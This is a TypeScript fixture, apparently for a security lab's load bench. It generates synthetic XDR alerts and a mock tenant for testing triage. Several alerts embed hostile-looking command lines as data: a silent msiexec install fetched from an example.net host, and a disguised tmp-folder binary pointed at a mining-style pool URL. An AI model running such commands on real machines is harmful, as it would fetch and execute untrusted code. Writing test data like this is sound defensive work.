/** The alerts of the load bench and the tenant behind them: every alert has a host, a file and a URL of its own. */
import type { AlertFields, TenantSpec } from '../src/apps/lab/index.ts';

const CRONTAB = ['# m h dom mon dow command', '30 1 * * 0 /usr/local/bin/rotate', ''].join('\n');

type Kind = 'package' | 'cron' | 'harmless';
const KINDS: readonly Kind[] = ['package', 'cron', 'package', 'harmless'];

const kindOf = (index: number): Kind => KINDS[index % KINDS.length] ?? 'package';
const hex = (index: number, length: number): string => index.toString(16).padStart(length, '0');
const urlOf = (index: number): string => `http://get.files-${index}.example.net/viewer.msi`;
const fileOf = (index: number): string => `c0ffee${hex(index, 58)}`;
const pathOf = (index: number): string => `/var/tmp/.cache/udevd${index}`;

export type LoadAlert = AlertFields & { readonly id: string; readonly agentid: string };

/** `now`: epoch milliseconds. */
export function alertsOf(count: number, now: number): readonly LoadAlert[] {
  return Array.from({ length: count }, (_, index) => {
    const shared = {
      id: String(100_000 + index),
      severity: 'MEDIUM',
      source: 'XDR Analytics BIOC',
      detectiontimestamp: new Date(now - 60_000).toISOString(),
      parentXDRIncident: `INCIDENT-${100_000 + index}`,
      agentid: hex(index + 1, 32),
      hostname: `host-${index}`,
      hostip: [`10.${(index >> 16) & 255}.${(index >> 8) & 255}.${index & 255}`],
      cid: [`Q2F1c2FsaXR5${hex(index, 8)}`],
    };
    return { ...shared, ...OWN[kindOf(index)](index) };
  });
}

const OWN: Readonly<Record<Kind, (index: number) => AlertFields>> = {
  package: (index) => ({
    name: 'Msiexec execution of an executable from an uncommon remote location without properties',
    agentostype: 'AGENT_OS_WINDOWS',
    username: ['EXAMPLE\\a.lindqvist'],
    cgoname: ['cmd.exe'],
    cgocmd: [`cmd.exe /c msiexec /i ${urlOf(index)} /qn`],
    cgosignature: ['SIGNATURE_SIGNED'],
    targetprocessname: ['msiexec.exe'],
    targetprocesscmd: [`msiexec /i ${urlOf(index)} /qn`],
    mitreattcktechnique: ['T1218.007 - System Binary Proxy Execution: Msiexec'],
  }),
  cron: (index) => ({
    name: 'Suspicious cron job task execution of a binary from the tmp folder',
    agentostype: 'AGENT_OS_LINUX',
    username: ['ci'],
    cgoname: ['cron'],
    cgocmd: ['/usr/sbin/cron -f'],
    cgosignature: ['SIGNATURE_UNAVAILABLE'],
    targetprocessname: [`udevd${index}`],
    targetprocesscmd: [`${pathOf(index)} --pool http://pool-${index}.example.net/job`],
    targetprocesssha256: [fileOf(index)],
    mitreattcktechnique: ['T1053.003 - Scheduled Task/Job: Cron'],
  }),
  harmless: (index) => ({
    name: 'Suspicious process execution from tmp folder',
    agentostype: 'AGENT_OS_LINUX',
    username: ['p.okafor'],
    cgoname: ['gnome-shell'],
    cgocmd: ['/usr/bin/gnome-shell'],
    cgosignature: ['SIGNATURE_UNAVAILABLE'],
    targetprocessname: ['notes-app'],
    targetprocesscmd: [`/tmp/.mount_notes/app${index}`],
    targetprocesssha256: [fileOf(index)],
    mitreattcktechnique: ['T1204.002 - User Execution: Malicious File'],
  }),
};

export function tenantOf(alerts: readonly LoadAlert[]): TenantSpec {
  const rows = alerts.map((alert, index) => ({ alert, index, kind: kindOf(index) }));
  const of = (...kinds: readonly Kind[]) => rows.filter(({ kind }) => kinds.includes(kind));
  return {
    verdicts: {
      url: Object.fromEntries(of('package').map(({ index }) => [urlOf(index), 3])),
      file: Object.fromEntries(
        of('cron', 'harmless').map(({ index, kind }) => [fileOf(index), kind === 'cron' ? 3 : 1]),
      ),
    },
    endpoints: Object.fromEntries(
      alerts.map(({ agentid }) => [agentid, { status: 'CONNECTED', is_isolated: 'AGENT_UNISOLATED' }]),
    ),
    terminate: 'COMPLETED_SUCCESSFULLY',
    quarantine: { status: false, action: 'COMPLETED_SUCCESSFULLY' },
    originalAlert: {
      events: Object.fromEntries(
        of('cron', 'harmless').map(({ alert, index }) => [
          alert.id,
          { action_process_image_path: pathOf(index), action_process_image_sha256: fileOf(index) },
        ]),
      ),
    },
    scriptResults: { 'crontab -u ci': CRONTAB },
    panos: { configured: true, type: 'firewall', rules: [{ name: 'allow-web', action: 'allow' }] },
  };
}
